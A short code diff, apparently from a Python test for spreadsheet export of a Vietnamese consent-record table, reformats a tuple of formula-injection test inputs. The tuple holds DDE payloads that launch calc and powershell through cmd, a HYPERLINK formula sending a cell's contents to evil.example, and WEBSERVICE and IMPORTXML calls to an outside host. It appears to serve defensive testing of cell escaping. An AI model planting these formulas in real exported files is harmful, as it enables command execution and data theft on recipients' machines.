@@ -12,8 +12,9 @@ import openpyxl
 
 HEADS = ["Họ tên", "Ngày sinh", "SĐT", "Đồng ý", "Ngày đồng ý", "Cách đồng ý", "Bằng chứng"]
 FORMULAS = (
-    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+1", "@SUM(1+1)*cmd|''!A",
-    "+cmd|' /C powershell'!A0", "-2+3+cmd|' /C calc'!A0", "＝1+1", "=WEBSERVICE(\"http://e.example\")",
+    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+1",
+    "@SUM(1+1)*cmd|''!A", "+cmd|' /C powershell'!A0", "-2+3+cmd|' /C calc'!A0", "＝1+1",
+    "=WEBSERVICE(\"http://e.example\")",
     "=IMPORTXML(\"http://e.example\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "'=1+1",
 )  # fmt: skip
 
